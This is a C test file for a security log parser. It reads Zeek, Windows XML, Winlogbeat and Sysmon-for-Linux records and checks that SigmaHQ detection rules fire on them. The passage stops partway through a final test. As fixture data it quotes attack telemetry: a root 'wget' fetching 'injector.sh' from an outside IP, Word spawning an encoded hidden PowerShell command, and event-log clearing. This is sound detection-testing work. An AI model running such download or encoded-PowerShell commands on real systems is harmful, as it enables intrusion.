/* test_layouts.c: the layouts read from content (issue 9 D): Zeek JSON as pipelines write
 * it, Windows events as XML, Winlogbeat 7/8 and Sysmon for Linux, each on records cut from
 * real published data (tests/data/layouts/README.md names the sources), on records made
 * almost right at run time (read as far as they go, a warning naming file and line), and
 * with SigmaHQ rules from ../shared/data that must fire on them as on the same events in
 * other layouts. */
#include <inttypes.h>
#include <stdint.h>
#include <unistd.h>

#include "check.h"
#include "check_diag.h"
#include "core/input.h"
#include "ingest/ingest.h"
#include "sigma/sigma.h"

#define FIX "tests/data/layouts/"
#define LOGSOURCES "data/sigma/logsources.tsv"
#define MAXREC 16
#define S 256

typedef struct rec {
    int64_t ts;
    char dataset[S], action[S], user[S], user_domain[S], domain[S], url[S], file[S], md5[S];
    char sha1[S], process[S], cmd[S], parent[S], host[S], src_host[S], channel[S], provider[S];
    char transport[S], protocol[S], src[64], dst[64], fields[4096];
    uint32_t category, code;
    bool has_code;
    int outcome, logon_type;
    uint16_t sport, dport;
    uint64_t bytes_out, bytes_in, line;
} rec;

typedef struct note {
    char file[S], msg[S];
    uint64_t line;
} note;

typedef struct got {
    rec r[MAXREC];
    size_t n, nerr, nwarn;
    note e[8], w[8];
} got;

static void cp(char *dst, ts_str s)
{
    size_t n = s.n < S - 1 ? s.n : S - 1;
    if (n)
        memcpy(dst, s.p, n);
    dst[n] = '\0';
}

static void on_event(void *ud, ts_event *ev)
{
    got *g = ud;
    if (g->n >= MAXREC) {
        g->n++;
        return;
    }
    rec *r = &g->r[g->n++];
    memset(r, 0, sizeof *r);
    r->ts = ev->ts_ns;
    cp(r->dataset, ev->dataset), cp(r->action, ev->action), cp(r->user, ev->user);
    cp(r->user_domain, ev->user_domain), cp(r->domain, ev->domain), cp(r->url, ev->url);
    cp(r->file, ev->file_path), cp(r->md5, ev->md5), cp(r->sha1, ev->sha1);
    cp(r->process, ev->process), cp(r->cmd, ev->command_line), cp(r->parent, ev->parent_process);
    cp(r->host, ev->host), cp(r->src_host, ev->src_host), cp(r->channel, ev->channel);
    cp(r->provider, ev->provider), cp(r->transport, ev->transport), cp(r->protocol, ev->protocol);
    ts_ip_format(&ev->src_ip, r->src);
    ts_ip_format(&ev->dst_ip, r->dst);
    r->category = ev->category, r->code = ev->code, r->has_code = ev->has_code;
    r->outcome = ev->outcome, r->logon_type = ev->logon_type;
    r->sport = ev->src_port, r->dport = ev->dst_port;
    r->bytes_out = ev->bytes_out, r->bytes_in = ev->bytes_in, r->line = ev->line;
    size_t o = 0;
    for (size_t i = 0; i < ev->n_fields && o < sizeof r->fields; i++) {
        int k = snprintf(r->fields + o, sizeof r->fields - o, "%.*s=%.*s\n", (int)ev->fields[i].key.n,
                         ev->fields[i].key.p, (int)ev->fields[i].val.n, ev->fields[i].val.p);
        if (k < 0)
            break;
        o += (size_t)k;
    }
}

static void keep(note *arr, size_t *n, const char *file, uint64_t line, const char *msg)
{
    if (*n < 8) {
        snprintf(arr[*n].file, S, "%s", file ? file : "");
        snprintf(arr[*n].msg, S, "%s", msg ? msg : "");
        arr[*n].line = line;
    }
    (*n)++;
}

static void on_error(void *ud, const ts_diag *dg)
{
    got *g = ud;
    keep(g->e, &g->nerr, dg->file, dg->line, dg->msg);
}

static void on_warn(void *ud, const ts_diag *dg)
{
    got *g = ud;
    keep(g->w, &g->nwarn, dg->file, dg->line, dg->msg);
}

static ts_scratch scratch;

/* Reads path with the reader its content calls for (or the one named); returns its name. */
static const char *read_as(const char *path, const char *reader, got *g)
{
    memset(g, 0, sizeof *g);
    ts_input *in;
    char err[256];
    if (ts_input_open(path, &in, err, sizeof err) != TOCSIN_OK) {
        fprintf(stderr, "%s\n", err);
        return "";
    }
    const char *head;
    size_t n = ts_input_peek(in, &head);
    const ts_reader *r = reader ? ts_reader_find(reader) : ts_reader_detect(head, n);
    if (r) {
        ts_sink sink = {on_event, on_error, g, on_warn};
        r->read(in, &scratch, &sink);
    }
    ts_input_close(in);
    return r ? r->name : "";
}

static bool has_field(const rec *r, const char *kv)
{
    char want[S + 2];
    snprintf(want, sizeof want, "%s\n", kv);
    return strncmp(r->fields, want, strlen(want)) == 0 || strstr(r->fields, want) != NULL;
}

static char tmpdir[64];

static const char *write_tmp(const char *name, const char *text)
{
    static char path[128];
    snprintf(path, sizeof path, "%s/%s", tmpdir, name);
    FILE *f = fopen(path, "wb");
    CHECK(f != NULL);
    if (f) {
        CHECK(fwrite(text, 1, strlen(text), f) == strlen(text));
        fclose(f);
    }
    return path;
}

/* ---- Zeek ---- */

static void test_zeek_pipeline(void)
{
    got g;
    CHECK_STR(read_as(FIX "zeek_apt29.json", NULL, &g), "zeek-json");
    CHECK_INT(g.n, 8);
    CHECK_INT(g.nerr, 0);
    CHECK_INT(g.nwarn, 0); /* capture_loss has no ts-less connection: nothing to say */
    CHECK_STR(g.r[0].dataset, "zeek.capture_loss");
    CHECK_INT(g.r[0].ts, 1588317555874701000LL);
    rec *c = &g.r[1];
    CHECK_STR(c->dataset, "zeek.conn");
    CHECK_STR(c->src, "10.0.1.5");
    CHECK_INT(c->sport, 61011);
    CHECK_STR(c->dst, "10.0.0.4");
    CHECK_INT(c->dport, 88);
    CHECK_STR(c->transport, "tcp");
    CHECK_STR(c->protocol, "krb_tcp");
    CHECK_INT(c->bytes_out, 1398);
    CHECK_INT(c->bytes_in, 1421);
    CHECK(c->category & TS_CAT_NETWORK);
    CHECK(has_field(c, "id.orig_h=10.0.1.5") && has_field(c, "id.resp_p=88")); /* Sigma's names */
    CHECK(has_field(c, "@system=test-nsm"));
    rec *k = &g.r[2];
    CHECK_STR(k->dataset, "zeek.kerberos");
    CHECK_STR(k->user, "pbeesly");
    CHECK_STR(k->user_domain, "DMEVALS.LOCAL");
    CHECK_INT(k->outcome, TS_OUTCOME_FAILURE);
    CHECK(k->category & TS_CAT_AUTH);
    CHECK_INT(g.r[3].outcome, TS_OUTCOME_SUCCESS);
    CHECK_STR(g.r[4].dataset, "zeek.smb_mapping");
    CHECK_STR(g.r[4].file, "\\\\NEWYORK.dmevals.local\\sysvol");
    CHECK_STR(g.r[5].domain, "mobile.pipe.aria.microsoft.com");
    CHECK(g.r[5].category & TS_CAT_DNS);
    rec *h = &g.r[6];
    CHECK_STR(h->url, "http://192.168.0.4/m");
    CHECK_INT(h->dport, 8080);
    CHECK(h->category & TS_CAT_WEB);
    rec *f = &g.r[7];
    CHECK_STR(f->dataset, "zeek.files");
    CHECK_STR(f->md5, "26289a2b50360e6c4a6a1be4f698419a");
    CHECK_STR(f->src, "13.107.42.12");
    CHECK_STR(f->dst, "10.0.1.5");

    CHECK_STR(read_as(FIX "zeek_iso.json", NULL, &g), "zeek-json");
    CHECK_INT(g.n, 2);
    CHECK_INT(g.nwarn, 0);
    CHECK_STR(g.r[0].dataset, "zeek.conn"); /* no _path: told by conn_state */
    CHECK_INT(g.r[0].ts, 1313379376748830000LL);
    CHECK_STR(g.r[1].dst, "218.108.143.87");
    CHECK_INT(g.r[1].dport, 22);
}

static void test_zeek_almost(void)
{
    got g;
    const char *path = write_tmp(
        "zeek_bad.json", "{\"@stream\":\"conn\",\"ts\":1588316991.2,\"uid\":\"C1\",\"id_orig_h\":\"10.0.1."
                         "5\",\"id_orig_p\":1,\"id_resp_h\":\"10.0.0.4\",\"id_resp_p\":88}\n"
                         "{\"@stream\":\"conn\",\"ts\":1588316991.3,\"uid\":\"C2\",\"id_orig_h\":\"10.0.1."
                         "5\",\"id_orig_p\":\"http\",\"id_resp_h\":\"10.0.0.4\",\"id_resp_p\":88}\n"
                         "{\"@stream\":\"conn\",\"uid\":\"C3\",\"id_orig_h\":\"10.0.1.6\",\"id_orig_p\":2,"
                         "\"id_resp_h\":\"10.0.0.4\",\"id_resp_p\":445}\n"
                         "{\"@stream\":\"dns\",\"ts\":\"yesterday\",\"uid\":\"C4\",\"id_orig_h\":\"10.0.1."
                         "7\",\"query\":\"a.example\"}\n"
                         "{\"@stream\":\"conn\",\"ts\":1588316991.5,\"uid\":\"C5\",\"id_orig_h\":\"10.0.1."
                         "500\",\"id_resp_h\":\"10.0.0.4\"}\n"
                         "{\"@stream\":\"conn\",\"ts\":1588316991.6,\"uid\":\"C6\",\n");
    CHECK_STR(read_as(path, NULL, &g), "zeek-json");
    CHECK_INT(g.n, 5); /* every record that parses is kept */
    CHECK_INT(g.nwarn, 4);
    CHECK_INT(g.nerr, 1);        /* the line cut short is not JSON */
    CHECK_INT(g.r[1].dport, 88); /* the rest of the flawed record is there */
    CHECK_INT(g.r[1].sport, 0);
    CHECK_INT(g.w[0].line, 2);
    CHECK_STR(g.w[0].file, path);
    CHECK(strstr(g.w[0].msg, "id.orig_p \"http\" is not a port") != NULL);
    CHECK_INT(g.w[1].line, 3);
    CHECK(strstr(g.w[1].msg, "no ts field") != NULL);
    CHECK_INT(g.r[2].dport, 445);
    CHECK_INT(g.w[2].line, 4);
    CHECK(strstr(g.w[2].msg, "\"yesterday\" is not a time") != NULL);
    CHECK_STR(g.r[3].domain, "a.example");
    CHECK_INT(g.w[3].line, 5);
    CHECK(strstr(g.w[3].msg, "is not an address") != NULL);
    CHECK_INT(g.e[0].line, 6);

    /* Zeek's TSV says the same of the same flaw. */
    path = write_tmp(
        "conn.log",
        "#separator \\x09\n#path\tconn\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\n"
        "1588316991.2\tC1\t10.0.1.5\t99999\t10.0.0.4\t88\n");
    CHECK_STR(read_as(path, NULL, &g), "zeek-tsv");
    CHECK_INT(g.n, 1);
    CHECK_INT(g.r[0].dport, 88);
    CHECK_INT(g.nwarn, 1);
    CHECK_INT(g.w[0].line, 4);
    CHECK(strstr(g.w[0].msg, "id.orig_p \"99999\" is not a port") != NULL);

    /* "@path" names the log as "@stream" does; a JSON-number ts and ISO text alike. */
    path = write_tmp("zeek_path.json", "{\"@path\":\"dns\",\"ts\":\"2020-04-29T23:26:38.908336Z\",\"id.orig_"
                                       "h\":\"10.0.1.4\",\"query\":\"b.example\"}\n");
    CHECK_STR(read_as(path, NULL, &g), "zeek-json");
    CHECK_INT(g.n, 1);
    CHECK_STR(g.r[0].dataset, "zeek.dns");
    CHECK_INT(g.r[0].ts, 1588202798908336000LL);
    CHECK_INT(g.nwarn, 0);
}

/* ---- Windows XML ---- */

static void test_winxml(void)
{
    got g;
    CHECK_STR(read_as(FIX "win_events.xml", NULL, &g), "winevent-xml");
    CHECK_INT(g.n, 3);
    CHECK_INT(g.nerr, 0);
    CHECK_INT(g.nwarn, 0);
    rec *w = &g.r[0];
    CHECK_STR(w->dataset, "windows.sysmon");
    CHECK_INT(w->code, 1);
    CHECK_STR(w->action, "process-created");
    CHECK(w->category & TS_CAT_PROCESS);
    CHECK_STR(w->process, "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
    CHECK_STR(w->parent, "C:\\Windows\\explorer.exe");
    CHECK_STR(w->user, "IEuser");
    CHECK_STR(w->user_domain, "WIN-40TITGP9BI7");
    CHECK_STR(w->host, "WIN-40TITGP9BI7");
    CHECK_STR(w->md5, "3BA3D1BEDE682DAFA7392BB073381E7D");
    CHECK_INT(w->ts, 1607041906774152800LL);
    CHECK_INT(w->line, 1);
    CHECK(has_field(w, "Provider_Name=Microsoft-Windows-Sysmon"));
    CHECK(has_field(w, "TimeCreated_SystemTime=2020-12-04T00:31:46.774152800Z"));
    CHECK(has_field(w, "EventRecordID=17831") && has_field(w, "Execution_ProcessID=956"));
    CHECK(has_field(w, "Security_UserID=S-1-5-18") &&
          has_field(w, "Channel=Microsoft-Windows-Sysmon/Operational"));
    CHECK(has_field(
        w, "CommandLine=\"C:\\Program Files (x86)\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n "
           "\"C:\\Users\\IEuser\\Downloads\\malicious.docx\" /o \"u\""));
    CHECK(!strstr(w->fields, "xmlns"));
    CHECK_INT(g.r[1].code, 13);
    CHECK(has_field(&g.r[1], "EventType=SetValue"));
    rec *p = &g.r[2];
    CHECK_STR(p->cmd, "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe -noP -sta -w 1 -enc "
                      "//<-- 5097bytes long payload -->//"); /* entities undone */
    CHECK(has_field(p, "Product=Microsoft\xc2\xae Windows\xc2\xae Operating System"));
    CHECK_INT(p->line, 3);
}

/* The sorted "key=value" lines of a record's fields. */
static void sorted_fields(const rec *r, char out[64][S], size_t *n)
{
    *n = 0;
    for (const char *p = r->fields; *p && *n < 64;) {
        const char *nl = strchr(p, '\n');
        size_t len = nl ? (size_t)(nl - p) : strlen(p);
        snprintf(out[*n], S, "%.*s", (int)len, p);
        (*n)++;
        p += len + (nl ? 1 : 0);
    }
    for (size_t i = 1; i < *n; i++)
        for (size_t j = i; j > 0 && strcmp(out[j - 1], out[j]) > 0; j--) {
            char t[S];
            memcpy(t, out[j], S), memcpy(out[j], out[j - 1], S), memcpy(out[j - 1], t, S);
        }
}

/* The same event as XML and as evtx_dump's JSON gives the same fields and typed event. */
static void test_winxml_like_json(void)
{
    got x, j;
    char line[8192];
    FILE *f = fopen(FIX "win_events.xml", "rb");
    CHECK(f != NULL);
    if (!f)
        return;
    for (int i = 0; i < 2 && fgets(line, sizeof line, f); i++) /* the second event, Sysmon 13 */
        ;
    fclose(f);
    const char *xp = write_tmp("one.xml", line);
    CHECK_STR(read_as(xp, NULL, &x), "winevent-xml");
    const char *jp = write_tmp(
        "one.json",
        "{\"Event\":{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/event\"},"
        "\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\",\"Guid\":\"{"
        "5770385F-C22A-43E0-BF4C-06F5698FFBD9}\"}},"
        "\"EventID\":13,\"Version\":2,\"Level\":4,\"Task\":13,\"Opcode\":0,\"Keywords\":"
        "\"0x8000000000000000\","
        "\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2020-12-04T00:31:59.771152800Z\"}},"
        "\"EventRecordID\":17837,"
        "\"Correlation\":null,\"Execution\":{\"#attributes\":{\"ProcessID\":956,\"ThreadID\":3828}},"
        "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"WIN-40TITGP9BI7\","
        "\"Security\":{\"#attributes\":{\"UserID\":\"S-1-5-18\"}}},"
        "\"EventData\":{\"RuleName\":\"Context,ProtectedModeExitOrMacrosUsed\",\"EventType\":\"SetValue\","
        "\"UtcTime\":\"2020-12-04 00:31:59.771\",\"ProcessGuid\":\"{84453EAB-8372-5FC9-10CD-380200000000}\","
        "\"ProcessId\":1596,\"Image\":\"C:\\\\Program Files (x86)\\\\Microsoft "
        "Office\\\\Root\\\\Office16\\\\WINWORD.EXE\","
        "\"TargetObject\":\"HKU\\\\S-1-5-21-2892772840-4280103526-640991184-"
        "1000\\\\Software\\\\Microsoft\\\\Office\\\\16.0\\\\Word\\\\Security\\\\Trusted "
        "Documents\\\\TrustRecords\\\\%USERPROFILE%/Downloads/malicious.docx\","
        "\"Details\":\"Binary Data\"}}}\n");
    CHECK_STR(read_as(jp, NULL, &j), "winevent-json");
    CHECK_INT(x.n, 1);
    CHECK_INT(j.n, 1);
    if (x.n != 1 || j.n != 1)
        return;
    static char a[64][S], b[64][S];
    size_t na, nb;
    sorted_fields(&x.r[0], a, &na);
    sorted_fields(&j.r[0], b, &nb);
    CHECK_INT(na, nb);
    for (size_t i = 0; i < na && i < nb; i++)
        CHECK_STR(a[i], b[i]);
    CHECK_STR(x.r[0].dataset, j.r[0].dataset);
    CHECK_STR(x.r[0].action, j.r[0].action);
    CHECK_INT(x.r[0].category, j.r[0].category);
    CHECK_INT(x.r[0].ts, j.r[0].ts);
    CHECK_STR(x.r[0].process, j.r[0].process);
    CHECK_STR(x.r[0].host, j.r[0].host);
}

static void test_winxml_shapes(void)
{
    got g;
    /* Pretty-printed in an <Events> root (Get-WinEvent | ToXml, Event Viewer), UserData,
     * references, an empty Data, an id that is not a number, junk, and a file cut short. */
    const char *path = write_tmp(
        "pretty.xml",
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
        "<Events>\n"
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>\n"
        "  <System>\n"
        "    <Provider Name='Microsoft-Windows-Eventlog' Guid='{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}'/>\n"
        "    <EventID>1102</EventID>\n"
        "    <TimeCreated SystemTime='2019-03-19T23:34:25.241000Z'/>\n"
        "    <Channel>Security</Channel>\n"
        "    <Computer>DC1.corp.local</Computer>\n"
        "  </System>\n"
        "  <UserData>\n"
        "    <LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>\n"
        "      <SubjectUserName>admin&amp;co</SubjectUserName>\n"
        "      <SubjectDomainName>CORP&#x41;</SubjectDomainName>\n"
        "    </LogFileCleared>\n"
        "  </UserData>\n"
        "</Event>\n"
        "<Event><System><EventID>4688</EventID><Channel>Security</Channel><TimeCreated "
        "SystemTime='2019-03-19T23:34:26Z'/></System><EventData><Data "
        "Name='NewProcessName'>C:\\x.exe</Data><Data "
        "Name='CommandLine'/></EventData></Event><Event><System><EventID>x1</EventID></System></Event>\n"
        "this line is not XML\n"
        "</Events>\n"
        "<Event><System><EventID>4624</EventID><Channel>Security</Channel></System><EventData><Data "
        "Name='TargetUserName'>bob</Data><Data Name='IpAddr\n");
    CHECK_STR(read_as(path, NULL, &g), "winevent-xml");
    CHECK_INT(g.n, 4);
    rec *c = &g.r[0];
    CHECK_INT(c->code, 1102);
    CHECK_STR(c->action, "audit-log-cleared");
    CHECK_STR(c->user, "admin&co");
    CHECK_STR(c->user_domain, "CORPA");
    CHECK_INT(c->line, 3);
    CHECK_INT(c->ts, 1553038465241000000LL);
    CHECK(has_field(c, "SubjectUserName=admin&co"));
    CHECK_INT(g.r[1].code, 4688);
    CHECK_STR(g.r[1].process, "C:\\x.exe");
    CHECK(has_field(&g.r[1], "CommandLine="));
    CHECK_INT(g.r[1].line, 18);
    CHECK(!g.r[2].has_code);
    CHECK_STR(g.r[3].user, "bob"); /* the cut event, as far as it goes */
    CHECK_INT(g.nwarn, 2);
    CHECK_INT(g.w[0].line, 18);
    CHECK(strstr(g.w[0].msg, "EventID \"x1\" is not a number") != NULL);
    CHECK_INT(g.w[1].line, 21);
    CHECK_STR(g.w[1].file, path);
    CHECK(strstr(g.w[1].msg, "kept") != NULL);
    CHECK_INT(g.nerr, 1);
    CHECK_INT(g.e[0].line, 19);
}

/* ---- Sysmon for Linux ---- */

static void test_sysmon_linux(void)
{
    got g;
    CHECK_STR(read_as(FIX "sysmon_linux.log", NULL, &g), "sysmon-linux");
    CHECK_INT(g.n, 4);
    CHECK_INT(g.nerr, 0);
    CHECK_INT(g.nwarn, 0);
    rec *w = &g.r[0];
    CHECK_STR(w->dataset, "linux.sysmon");
    CHECK_INT(w->code, 1);
    CHECK_STR(w->action, "process-created");
    CHECK(w->category & TS_CAT_PROCESS);
    CHECK_STR(w->process, "/usr/bin/wget");
    CHECK_STR(w->cmd, "wget http://44.204.18.94:80/injector.sh");
    CHECK_STR(w->parent, "/bin/bash");
    CHECK_STR(w->user, "root");
    CHECK_STR(w->host, "ip-172-31-60-25");
    CHECK_INT(w->ts, 1669283987851002000LL);
    CHECK(has_field(w, "Image=/usr/bin/wget") && has_field(w, "ParentCommandLine=/bin/bash"));
    CHECK(has_field(w, "CurrentDirectory=/opt/automation") && has_field(w, "User=root"));
    CHECK_STR(g.r[1].action, "file-created");
    CHECK(g.r[1].category & TS_CAT_FILE);
    CHECK_STR(g.r[1].file, "/opt/automation/injector.sh");
    rec *n = &g.r[3];
    CHECK_STR(n->action, "network-connection");
    CHECK(n->category & TS_CAT_NETWORK);
    CHECK_STR(n->src, "172.31.60.25");
    CHECK_INT(n->sport, 42234);
    CHECK_STR(n->dst, "44.204.18.94");
    CHECK_INT(n->dport, 80);
    CHECK_STR(n->transport, "tcp");
    CHECK(has_field(n, "Initiated=true") && has_field(n, "DestinationIp=44.204.18.94"));

    /* In a syslog file where Sysmon is one program among others, linux-auth reads the file
     * and hands the Sysmon lines over; a line cut by rsyslog's size limit keeps its start. */
    char text[8192];
    FILE *f = fopen(FIX "sysmon_linux.log", "rb");
    size_t tn = f ? fread(text, 1, sizeof text - 1, f) : 0;
    if (f)
        fclose(f);
    text[tn] = '\0';
    char *nl = strchr(text, '\n');
    CHECK(nl != NULL);
    if (!nl)
        return;
    nl[1] = '\0';
    char mixed[12288];
    snprintf(mixed, sizeof mixed,
             "Nov 24 09:59:40 ip-172-31-60-25 sshd[3990]: Accepted password for root from 203.0.113.9 port "
             "50022 ssh2\n"
             "%s%.*s\n",
             text, (int)(strstr(text, "<Data Name=\"Image\">") - text), text);
    const char *path = write_tmp("syslog", mixed);
    CHECK_STR(read_as(path, NULL, &g), "linux-auth");
    CHECK_INT(g.n, 3);
    CHECK_STR(g.r[0].dataset, "linux.auth");
    CHECK_STR(g.r[1].dataset, "linux.sysmon");
    CHECK_STR(g.r[1].process, "/usr/bin/wget");
    CHECK_INT(g.r[1].line, 2);
    CHECK_STR(g.r[2].dataset, "linux.sysmon");
    CHECK_STR(g.r[2].process, "");
    CHECK(has_field(&g.r[2], "ProcessId=4001"));
    CHECK_INT(g.nwarn, 1);
    CHECK_INT(g.w[0].line, 3);
    CHECK(strstr(g.w[0].msg, "ends before </Event>") != NULL);
    CHECK_INT(g.nerr, 0);

    /* A file of Sysmon lines is sysmon-linux's; another program's line in it is kept as text. */
    snprintf(mixed, sizeof mixed, "%sNov 24 09:59:48 ip-172-31-60-25 systemd[1]: Started Session 66.\n",
             text);
    path = write_tmp("sysmon_first", mixed);
    CHECK_STR(read_as(path, NULL, &g), "sysmon-linux");
    CHECK_INT(g.n, 2);
    CHECK_STR(g.r[1].dataset, "linux.syslog");
    CHECK(has_field(&g.r[1], "message=Nov 24 09:59:48 ip-172-31-60-25 systemd[1]: Started Session 66."));
    CHECK_INT(g.nerr + g.nwarn, 0);
}

/* ---- Winlogbeat ---- */

static void test_winlogbeat(void)
{
    got g;
    CHECK_STR(read_as(FIX "winlogbeat.ndjson", NULL, &g), "winlogbeat");
    CHECK_INT(g.n, 3);
    CHECK_INT(g.nerr, 0);
    CHECK_INT(g.nwarn, 0);
    /* Winlogbeat 7's Sysmon module moved Image, CommandLine, ParentImage, User, Hashes ...
     * out of event_data into ECS: they are back under Sysmon's names. */
    rec *s = &g.r[0];
    CHECK_STR(s->dataset, "windows.sysmon");
    CHECK_INT(s->code, 1);
    CHECK_STR(s->action, "process-created");
    CHECK(s->category & TS_CAT_PROCESS);
    CHECK_STR(s->process, "C:\\Windows\\System32\\notepad.exe");
    CHECK_STR(s->parent, "C:\\Windows\\explorer.exe");
    CHECK_STR(s->cmd, "\"C:\\Windows\\system32\\notepad.exe\" ");
    CHECK_STR(s->user, "vagrant");
    CHECK_STR(s->user_domain, "VAGRANT");
    CHECK_STR(s->sha1, "b6d237154f2e528f0b503b58b025862d66b02b73");
    CHECK_STR(s->host, "vagrant");
    CHECK_INT(s->ts, 1603828814320000000LL);
    CHECK(has_field(s, "Image=C:\\Windows\\System32\\notepad.exe"));
    CHECK(has_field(s, "OriginalFileName=NOTEPAD.EXE") &&
          has_field(s, "CurrentDirectory=C:\\Users\\vagrant\\"));
    CHECK(has_field(s, "ProcessId=3616") && has_field(s, "ParentProcessId=4212"));
    CHECK(has_field(s, "Hashes=SHA1=b6d237154f2e528f0b503b58b025862d66b02b73"));
    CHECK(has_field(s, "IntegrityLevel=Medium") && has_field(s, "EventRecordID=20"));
    /* Winlogbeat 8 (event_id as text); the Security module's 4688 lost NewProcessName. */
    rec *p = &g.r[1];
    CHECK_STR(p->dataset, "windows.security");
    CHECK_INT(p->code, 4688);
    CHECK_STR(p->process, "C:\\Windows\\System32\\wevtutil.exe");
    CHECK_STR(p->parent, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    CHECK_STR(p->user, "vagrant");
    CHECK(has_field(p, "NewProcessName=C:\\Windows\\System32\\wevtutil.exe"));
    CHECK(has_field(p, "NewProcessId=0x11cc") && has_field(p, "ProcessId=0x122c"));
    rec *l = &g.r[2];
    CHECK_INT(l->code, 4624);
    CHECK_STR(l->action, "logon");
    CHECK(l->category & TS_CAT_AUTH);
    CHECK_STR(l->user, "vagrant");
    CHECK_INT(l->logon_type, 2);
    CHECK_STR(l->src, "127.0.0.1");
    CHECK_STR(l->src_host, "VAGRANT-2012-R2");
    CHECK_INT(l->outcome, TS_OUTCOME_SUCCESS);
    CHECK(has_field(l, "IpAddress=127.0.0.1") &&
          has_field(l, "ProcessName=C:\\Windows\\System32\\winlogon.exe"));

    /* Elasticsearch hits (an export of the index) and records almost right. */
    const char *path =
        write_tmp("hits.json", "[{\"_index\":\"winlogbeat-8\",\"_id\":\"a1\",\"_source\":{\"@timestamp\":"
                               "\"2019-11-14T17:10:15.1515514Z\","
                               "\"process\":{\"executable\":\"C:\\\\Windows\\\\System32\\\\wevtutil.exe\"},"
                               "\"winlog\":{\"channel\":\"Security\","
                               "\"provider_name\":\"Microsoft-Windows-Security-Auditing\",\"event_id\":"
                               "\"4688\",\"computer_name\":\"vagrant\"}}},\n"
                               "{\"_source\":{\"@timestamp\":\"soon\",\"winlog\":{\"channel\":\"Security\","
                               "\"event_id\":\"4624\"}}},\n"
                               "{\"_source\":{\"@timestamp\":\"2019-11-14T17:10:16Z\",\"winlog\":{"
                               "\"channel\":\"Security\",\"event_id\":\"n/a\"}}},\n"
                               "{\"_source\":{\"@timestamp\":\"2019-11-14T17:10:17Z\",\"event\":{\"code\":"
                               "\"4625\"},\"winlog\":{\"channel\":\"Security\"}}}]\n");
    CHECK_STR(read_as(path, NULL, &g), "winlogbeat");
    CHECK_INT(g.n, 4);
    CHECK_STR(g.r[0].process, "C:\\Windows\\System32\\wevtutil.exe");
    CHECK_STR(g.r[0].host, "vagrant");
    CHECK(!strstr(g.r[0].fields, "_index"));
    CHECK_INT(g.r[1].code, 4624);
    CHECK_INT(g.r[1].ts, 0);
    CHECK_INT(g.r[3].code, 4625); /* event.code when winlog.event_id is missing */
    CHECK_INT(g.nwarn, 2);
    CHECK(strstr(g.w[0].msg, "@timestamp \"soon\" is not a time") != NULL);
    CHECK(strstr(g.w[1].msg, "\"n/a\" is not a number") != NULL);
    CHECK_INT(g.w[1].line, 3); /* the array element's line */
    CHECK_INT(g.nerr, 0);
}

/* ---- SigmaHQ rules fire on these layouts ---- */

typedef struct hits {
    char titles[16][S];
    uint64_t lines[16];
    size_t n;
} hits;

static void on_hit(void *ud, const ts_sigma_rule_info *rule, const ts_event *ev)
{
    hits *h = ud;
    if (h->n < 16) {
        snprintf(h->titles[h->n], S, "%s", rule->title);
        h->lines[h->n] = ev->line;
    }
    h->n++;
}

typedef struct feed {
    ts_sigma *s;
    ts_sigma_scratch *sc;
    hits h;
} feed;

static void sigma_event(void *ud, ts_event *ev)
{
    feed *f = ud;
    ts_sigma_match(f->s, f->sc, ev, on_hit, &f->h);
}

/* The rules hit when path is read by reader (NULL: detected) with only rule loaded. */
static hits fire(const char *rule, const char *path, const char *reader)
{
    hits none = {0};
    char err[256];
    check_diags dg = {0};
    feed f = {0};
    f.s = ts_sigma_new(LOGSOURCES, check_diag_keep, &dg);
    if (!f.s || ts_sigma_load_path(f.s, rule, NULL, NULL) != TOCSIN_OK ||
        ts_sigma_compile(f.s, check_diag_keep, &dg) != TOCSIN_OK || !(f.sc = ts_sigma_scratch_new(f.s))) {
        fprintf(stderr, "%s: %s\n", rule, dg.msg);
        CHECK(false);
        ts_sigma_free(f.s);
        return none;
    }
    CHECK_INT(ts_sigma_rule_count(f.s), 1);
    ts_input *in;
    if (ts_input_open(path, &in, err, sizeof err) == TOCSIN_OK) {
        const char *head;
        size_t n = ts_input_peek(in, &head);
        const ts_reader *r = reader ? ts_reader_find(reader) : ts_reader_detect(head, n);
        ts_sink sink = {sigma_event, NULL, &f, NULL};
        if (r)
            r->read(in, &scratch, &sink);
        ts_input_close(in);
    }
    ts_sigma_scratch_free(f.sc);
    ts_sigma_free(f.s);
    return f.h;
}

static void test_sigma(void)
{
    const char *d = shared_data("SigmaHQ rules on the layouts");
    if (!d)
        return;
    char rule[1024];
    snprintf(rule, sizeof rule,
             "%s/sigma/rules/windows/process_creation/proc_creation_win_office_susp_child_processes.yml", d);
    hits h = fire(rule, FIX "win_events.xml", NULL);
    CHECK_INT(h.n, 1);
    CHECK_INT(h.lines[0], 3); /* Word starting PowerShell, not Word itself */
    CHECK_STR(h.titles[0], "Suspicious Microsoft Office Child Process");

    /* Security 4688 through Winlogbeat: the rule's Image is NewProcessName, which the
     * Security module moved to process.executable. Read as plain JSON (no restoring) the
     * same event does not fire: the restoring is what makes it. */
    snprintf(rule, sizeof rule,
             "%s/sigma/rules/windows/process_creation/proc_creation_win_susp_eventlog_clear.yml", d);
    h = fire(rule, FIX "winlogbeat.ndjson", NULL);
    CHECK_INT(h.n, 1);
    CHECK_INT(h.lines[0], 2);
    h = fire(rule, FIX "winlogbeat.ndjson", "winevent-json");
    CHECK_INT(h.n, 0);

    snprintf(rule, sizeof rule, "%s/sigma/rules/linux/process_creation/proc_creation_lnx_curl_usage.yml", d);
    h = fire(rule, FIX "sysmon_linux.log", NULL);
    CHECK_INT(h.n, 1);
    CHECK_INT(h.lines[0], 3);
}

/* Each fixture goes to its reader, and the readers' claims do not overlap on them. */
static void test_sniff(void)
{
    static const char *const want[][2] = {
        {FIX "zeek_apt29.json", "zeek-json"},         {FIX "zeek_iso.json", "zeek-json"},
